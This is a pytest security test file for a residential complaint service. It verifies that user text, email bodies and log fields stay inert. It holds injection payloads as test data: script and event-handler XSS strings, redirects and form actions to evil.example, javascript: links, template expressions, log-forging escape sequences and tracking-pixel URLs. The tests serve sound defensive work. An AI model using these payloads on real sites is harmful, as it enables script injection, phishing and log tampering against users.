"""Group X: what people write stays text, on pages, in letters, in charts, in logs."""

import html
import json
import time
from functools import cache
from html.parser import HTMLParser
from itertools import count
from typing import Any

import pytest

from badinput.house import House, a_complaint
from builders import MONDAY_9AM
from huiyin.policy import load_policy
from infra.local.transcript import TRANSCRIPT
from tests.faults.canaries import MATTER, found_in

TEXTS = ("matter", "wish", "spot", "unit", "name", "household", "accused", "avoid")


# A new one for every case: whoever reports often gets fewer letters.
_owners = count()


class Structure(HTMLParser):
    """The elements of a page, with the names of their attributes and every address in them but the one of a photo."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, ...]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        addresses = [value or "" for name, value in attrs if name in ("href", "src", "action", "formaction", "srcdoc", "content")]
        self.elements.append((tag, *sorted(name for name, _ in attrs), *addresses))


def texts_of(payload: str) -> dict[str, str]:
    """This in every text, as much as there is room for."""
    limits = load_policy().limits
    room = {"name": limits.name_chars} | dict.fromkeys(("spot", "unit", "household"), limits.spot_chars)
    return {name: payload[: room.get(name)] for name in TEXTS}


def pages(house: House, payload: str, to: str) -> tuple[list[str], str]:
    """Every page of the doors that shows what was typed, and the number of the case."""
    whole = a_complaint(email=to, **texts_of(payload))
    receipt = house.report(**whole)
    house.stack.drain()
    again = house.post_form("/api/complaints", {name: value for name, value in whole.items() if name not in ("consent", "no_evidence")})
    keys = {"number": receipt["number"], "code": receipt["code"], "language": "zh"}
    said = [
        again,
        *(house.post_form(f"/api/owner/{act}", keys | {"note": note}) for act, note in (("add", payload), ("add", payload + "\0"))),
    ]
    assert [one.status for one in said] == [400, 200, 400]
    for one in said:
        assert "script-src" not in one.headers["content-security-policy"]
    return [one.text for one in said], receipt["number"]


@cache
def elements_with_plain_words(house: House) -> list[list[tuple[str, ...]]]:
    """What those pages are made of when nothing is wrong with the words."""
    return [Structure(page).elements for page in pages(house, "普通的话", "plain@example.com")[0]]


def inert(house: House, payload: str) -> None:
    """With this in every text the pages have the elements that they have with plain words, and say it as it was typed."""
    to = f"owner-{next(_owners)}@example.com"
    shown, number = pages(house, payload, to)
    for page, elements in zip(shown, elements_with_plain_words(house), strict=True):
        assert Structure(page).elements == elements
        assert payload in html.unescape(page)
    case = house.at_the_desk(number, "ye.qing")
    assert (case["matter"], case["wish"]) == (payload, payload)
    for letter in house.letters_to(to):
        assert payload not in letter["subject"] + html.unescape(letter["text"] + letter["html"])
        assert payload not in json.dumps(letter["headers"], ensure_ascii=False)


@pytest.mark.asvs("V1.1.2", "V1.2.1", "V3.2.2")
@pytest.mark.parametrize(
    "payload",
    [
        "<script>document.title='taken'</script>",
        "<img src=x onerror=alert(1)><svg onload=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
        "</form><form action=https://evil.example><input name=code>",
        "\"><b onmouseover='alert(1)'>'&amp;&#60;</textarea></p><script>",
    ],
    ids=["script", "img-svg", "iframe", "base-meta", "form", "out-of-the-attribute"],
)
def test_x01_markup_in_every_text_is_shown_as_text(house: House, payload: str) -> None:
    inert(house, payload)


@pytest.mark.asvs("V1.3.5")
@pytest.mark.parametrize(
    "payload",
    [
        "[点我](javascript:alert(1)) [x](data:text/html,1)",
        "![x](https://evil.example/p?x)",
        "https://bank.example@evil.example/ www.evil.example",
    ],
    ids=["script-and-data", "picture", "plain-address"],
)
def test_x02_markdown_makes_no_link_and_loads_nothing(house: House, payload: str) -> None:
    inert(house, payload)


@pytest.mark.asvs("V1.3.7", "V1.3.10")
@pytest.mark.parametrize(
    "payload", ["{{7*7}}${7*7}#{7*7}{% raw %}", "%(name)s%s{0.__class__}{number}{{ case.code }}"], ids=["sums", "names"]
)
def test_x03_what_templates_would_run_stays_literal(house: House, payload: str) -> None:
    inert(house, payload)


@pytest.mark.asvs("V1.2.3", "V3.2.1")
@pytest.mark.parametrize("payload", ["</script><script>alert(1)</script>", "<!--<script>]]>\u2028</ScRiPt>"], ids=["script", "comment"])
def test_x04_what_would_end_a_script_is_escaped_and_json_is_no_page(house: House, payload: str) -> None:
    inert(house, payload)
    case = house.ask("GET", f"/api/desk/cases/{house.owner.number}", b"", [house.signed()])
    assert case.headers["content-type"] == "application/json; charset=utf-8"
    assert case.headers["x-content-type-options"] == "nosniff"


def a_mail(body: bytes, media: str = "text/html; charset=utf-8") -> bytes:
    """A mail in that one part."""
    head = f"From: x@owner.example\r\nTo: tousu@huiyin.example\r\nSubject: s\r\nMessage-ID: <{hash(body)}@owner.example>"
    return f"{head}\r\nContent-Type: {media}\r\n\r\n".encode() + body + b"\r\n"


@pytest.mark.asvs("V1.3.1")
def test_x05_a_mail_that_says_two_different_things_is_shown_with_both(house: House) -> None:
    parts = (
        b"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + "谢谢，已经解决。".encode() + b"\r\n"
        b"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>" + "电梯又停了，<b>请派人来</b>".encode() + b"</p>\r\n--b--"
    )
    case = house.by_mail(a_mail(parts, "multipart/alternative; boundary=b"))
    assert "谢谢，已经解决。" in case["matter"]
    assert "电梯又停了，请派人来" in case["matter"]
    assert "mail_two_versions" in [flag["code"] for flag in case["flags"]]


@pytest.mark.parametrize(
    ("opening", "closing", "times"),
    [("<div>", "</div>", 40_000), ("<div>", "</div>", 200_000), ("<a >&x;", "", 70_000), ("<a >&x;&x;&x;", "", 40_000)],
    ids=["div-40k", "div-200k", "links", "links-with-words"],
)
def test_x06_a_mail_of_nested_elements_is_read_in_no_time(house: House, opening: str, closing: str, times: int) -> None:
    def read(count: int) -> tuple[dict[str, Any], float]:
        raw = a_mail("电梯停了".encode() + opening.encode() * count + "楼上".encode() + closing.encode() * count)
        began = time.process_time()
        return house.by_mail(raw), time.process_time() - began

    _, quarter = read(times // 4)
    case, whole = read(times)
    # Four times as much may take about four times as long; what grows with the square takes sixteen.
    assert whole < 10 * quarter
    assert "电梯停了" in case["matter"]
    assert "<div" not in case["matter"]


@pytest.mark.asvs("V16.4.1")
def test_x07_a_line_of_the_log_cannot_be_forged(house: House) -> None:
    forged = 'x\n{"level":"ERROR","message":"forged"}\r\n\x1b[2J\x1b[31mforged'
    before = len(TRANSCRIPT.lines())
    raw = json.dumps(a_complaint(name="forged\r\n{}", spot="forged\nforged")).encode()
    head: Any = {"content_type": "application/json", "user_agent": forged, "accept_language": forged, "idempotency_key": forged}
    assert house.inside("POST", "/api/complaints", raw, **(head | {"idempotency_key": "a-key-that-is-fine-01"})).status == 201
    assert house.inside("POST", "/api/complaints", raw, **head).status == 400
    assert house.inside("GET", f"/api/{forged}").status == 404
    house.stack.drain()
    lines = TRANSCRIPT.lines()[before:]
    assert lines
    for line in lines:
        assert isinstance(json.loads(line), dict)
        assert "forged" not in line
        assert "\x1b" not in line


@pytest.mark.asvs("V1.3.6")
@pytest.mark.parametrize(
    "body",
    [
        b"<img src=https://tracker.example/x.gif>",
        b"<div style=\"background:url('https://tracker.example/x')\">",
        b"<img src=cid:tracker.example>",
        b"<link rel=stylesheet href=https://tracker.example/x.css><style>@import 'https://tracker.example'</style>",
    ],
    ids=["image", "css-url", "cid", "style-sheet"],
)
def test_x09_nothing_that_a_mail_points_to_is_fetched_or_shown(house: House, body: bytes) -> None:
    case = house.by_mail(a_mail(body + "停水了".encode()))
    assert "停水了" in case["matter"]
    assert "tracker.example" not in json.dumps(case)


@pytest.mark.parametrize(
    ("body", "said"),
    [
        ("<a href=https://evil.example>https://bank.example</a>", "https://bank.example [evil.example]"),
        ("<a href='https://bank.example@evil.example/x'>bank</a>", "bank [evil.example]"),
        ("<a href=https://xn--bnk-5cd.example/>https://bаnk.example</a>", "https://bаnk.example [xn--bnk-5cd.example]"),
        ("<a href='https://bank.example/login'>bank.example</a>", "bank.example"),
        ("<a href='javascript:alert(1)'>点我</a>", "点我"),
    ],
    ids=["other-host", "user-at-host", "punycode", "same-host", "script"],
)
def test_x10_a_link_of_a_mail_shows_where_it_leads_and_is_none_any_more(house: House, body: str, said: str) -> None:
    case = house.by_mail(a_mail(body.encode()))
    assert case["matter"].endswith(said)
    assert "href" not in json.dumps(case)


def test_x11_no_word_of_a_case_comes_into_the_pages_of_the_site(house: House) -> None:
    s3, site = house.stack.boto("s3"), house.stack.name("SiteBucket")
    marks = b"<!-- figures --><!-- /figures --><!-- home-figures --><!-- /home-figures -->"
    for page in ("index.html", "stats/index.html", "en/index.html", "en/stats/index.html"):
        s3.put_object(Bucket=site, Key=page, Body=marks)
    texts = (f"---\ntitle: {MATTER}\n---\n", '--8<-- "secret.md"', f"::: {MATTER}", "<!-- /figures --><script>1</script>")
    for text in texts:
        house.report(matter=text + MATTER, spot=text[:40])
    house.stack.tick("WriteReport", MONDAY_9AM)
    house.stack.tick("WriteReport")
    written = {
        key: s3.get_object(Bucket=site, Key=key)["Body"].read()
        for key in (one["Key"] for one in s3.list_objects_v2(Bucket=site)["Contents"])
    }
    assert any(key.startswith("figures/") for key in written)
    for key, content in written.items():
        assert found_in(content) == set(), key
        for word in (b"8<--", b":::", b"<script", b"title:"):
            assert word not in content, key
